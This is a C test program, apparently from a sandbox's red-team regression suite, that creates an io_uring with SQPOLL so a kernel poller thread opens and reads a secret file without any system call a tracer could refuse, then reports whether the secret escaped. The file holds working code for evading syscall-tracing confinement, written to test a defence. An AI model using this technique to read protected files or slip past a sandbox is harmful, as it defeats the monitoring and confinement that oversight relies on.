/* kio_sqpoll: an io_uring made before systrace attached goes on working for the process
 * (red team 9, class 5).  The ring is made with IORING_SETUP_SQPOLL: a thread of the kernel's
 * (iou-sqp-PID, in the process, PF_IO_WORKER) polls its submission queue, so requests written
 * into the ring's memory are run -- here IORING_OP_OPENAT and IORING_OP_READ of TARGET (the
 * secret) -- with no system call at all: no io_uring_enter for a tracer to refuse.  Under
 * `systrace --attach` the process used to be attached (the poller too: it can be seized, and
 * never stops) and read the secret; now systrace refuses to attach such a process.
 *
 *   kio_sqpoll TARGET          ($ESC_WAIT_TRACER: wait for a tracer first, see attack.h)
 *
 * Built with -DNAMED_ONLY: no ring, a thread merely named like a poller, and a plain open.
 */
#include "attack.h"

#include <linux/io_uring.h>
#include <sys/mman.h>

#ifdef NAMED_ONLY
/* The control of the check: an ordinary thread named as a poller is named "iou-sqp-PID",
 * and the secret is opened with a plain open (refused when attached). */
static void *idle(void *unused) {
    (void)unused;
    pause();
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 2)
        usage("kio_sqpoll TARGET");
    pthread_t named;
    char name[16];
    snprintf(name, sizeof name, "iou-sqp-%d", getpid());
    if (pthread_create(&named, NULL, idle, NULL) != 0 || pthread_setname_np(named, name) != 0)
        skipped("cannot name a thread");
    wait_for_tracer();
    try_open("open", argv[1]);
    tally_done();
}
#else
struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *sq_flags, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int ring_init(struct ring *r) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    p.flags = IORING_SETUP_SQPOLL;
    p.sq_thread_idle = 60000;  /* ms: the poller stays awake through the run */
    r->fd = syscall(SYS_io_uring_setup, 8, &p);
    if (r->fd < 0)
        return -errno;
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (!(p.features & IORING_FEAT_SINGLE_MMAP))
        return -ENOSYS;
    if (cq_size > sq_size)
        sq_size = cq_size;
    char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
                    IORING_OFF_SQ_RING);
    r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || r->sqes == MAP_FAILED)
        return -errno;
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->sq_flags = (unsigned *)(sq + p.sq_off.flags);
    r->cq_head = (unsigned *)(sq + p.cq_off.head);
    r->cq_tail = (unsigned *)(sq + p.cq_off.tail);
    r->cq_mask = (unsigned *)(sq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(sq + p.cq_off.cqes);
    return 0;
}

/* One request, its result: written into the ring, picked up by the poller (woken with
 * io_uring_enter only if it sleeps: a call, which a tracer sees). */
static int ring_run(struct ring *r, const struct io_uring_sqe *sqe) {
    unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
    r->sqes[idx] = *sqe;
    r->sq_array[idx] = idx;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
    double until = now_s() + 5;
    while (now_s() < until) {
        unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
        if (head != __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) {
            int res = r->cqes[head & *r->cq_mask].res;
            __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
            return res;
        }
        if (__atomic_load_n(r->sq_flags, __ATOMIC_ACQUIRE) & IORING_SQ_NEED_WAKEUP &&
            syscall(SYS_io_uring_enter, r->fd, 0, 0, IORING_ENTER_SQ_WAKEUP, NULL, 0) < 0)
            return -errno;
    }
    return -ETIMEDOUT;
}

int main(int argc, char **argv) {
    if (argc < 2)
        usage("kio_sqpoll TARGET");
    struct ring r;
    int rc = ring_init(&r);
    if (rc < 0) {
        FILE *f = fopen("/proc/sys/kernel/io_uring_disabled", "r");
        int disabled = 0;
        if (f && fscanf(f, "%d", &disabled) == 1 && disabled)
            skipped("io_uring is disabled on this kernel (io_uring_disabled=%d)", disabled);
        skipped("io_uring_setup with SQPOLL: %s", ename(-rc));
    }
    wait_for_tracer();
    note("traced by %d", tracer_pid());
    struct io_uring_sqe sqe;
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = IORING_OP_OPENAT;
    sqe.fd = AT_FDCWD;
    sqe.addr = (unsigned long)argv[1];
    sqe.open_flags = O_RDONLY;
    int fd = ring_run(&r, &sqe);
    if (fd < 0)
        blocked("IORING_OP_OPENAT: %s", ename(-fd));
    char buf[512] = "";
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = IORING_OP_READ;
    sqe.fd = fd;
    sqe.addr = (unsigned long)buf;
    sqe.len = sizeof buf - 1;
    int n = ring_run(&r, &sqe);
    if (n > 0 && strstr(buf, SECRET_MAGIC))
        escaped("the ring's poller opened and read the secret (%d bytes)", n);
    blocked("the ring opened something else (%s)", fd_name(fd));
}
#endif
